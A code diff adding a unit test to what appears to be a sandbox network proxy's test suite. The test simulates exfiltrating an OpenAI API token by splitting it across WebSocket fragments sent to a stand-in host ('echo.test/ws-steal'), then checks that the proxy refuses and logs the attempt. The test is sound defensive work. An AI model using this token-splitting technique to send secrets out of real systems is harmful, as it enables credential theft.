@@ -594,6 +594,45 @@ class ServeTest(unittest.TestCase):
         h = self.ws_plain.recorder.last()["headers"]
         self.assertEqual(h.get("sec-websocket-extensions"), "permessage-deflate")
 
+    def test_token_in_websocket_frame_to_wrong_host_refused(self):
+        # The sandbox's frames are watched like a streamed body: a token
+        # split over two fragments, sent apart, towards a host it does not
+        # belong to ends the connection before any byte of it leaves.
+        import socket
+        before = len(self.audit_lines())
+        port = self.ws_plain_port
+        half = len(OPENAI_TOKEN) // 2
+        echoed = b""
+        s = socket.create_connection(self.engine.addr["http"], timeout=20)
+        try:
+            s.sendall(("GET http://echo.test:%d/ws-steal HTTP/1.1\r\nHost: echo.test:%d\r\n"
+                       "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: %s\r\n"
+                       "Sec-WebSocket-Version: 13\r\n\r\n" % (port, port, self.WS_KEY)).encode())
+            head, _, rest = fixtures.read_head(s).partition(b"\r\n\r\n")
+            self.assertIn(b" 101 ", head.split(b"\r\n")[0], head)
+            reader = fixtures.WsReader(s, rest)
+            self.assertEqual(reader.message()[0], 1)  # the greeting
+            s.sendall(fixtures.ws_frame(1, b"fine", mask=True))
+            self.assertEqual(reader.message(), (1, b"fine"))
+            s.sendall(fixtures.ws_frame(1, b"key " + OPENAI_TOKEN[:half].encode(), fin=False,
+                                        mask=True))
+            time.sleep(0.3)
+            s.sendall(fixtures.ws_frame(0, OPENAI_TOKEN[half:].encode() + b" end", mask=True))
+            try:
+                while True:
+                    echoed += reader.frame()[2]
+            except (EOFError, OSError):
+                pass  # the engine ended the connection
+        finally:
+            s.close()
+        self.assertNotIn(OPENAI_TOKEN[:half].encode(), echoed)
+        self.assertTrue(fixtures_wait(lambda: len(self.audit_lines()) > before))
+        lines = [l for l in self.audit_lines()[before:] if l.get("path", "").endswith("/ws-steal")]
+        self.assertEqual(len(lines), 1, lines)
+        self.assertEqual(lines[0]["decision"], "reject", lines)
+        self.assertEqual(lines[0]["reason"],
+                         "proxy token for OPENAI_API_KEY sent to host echo.test in a WebSocket frame")
+
     def test_sse_streamed_as_it_arrives(self):
         proc = subprocess.Popen(["curl", "-sS", "-N", "-x", self.engine.url("tunnel"),
                                  "--cacert", self.pki["engine_ca"], self.url("echo.test", "/sse")],
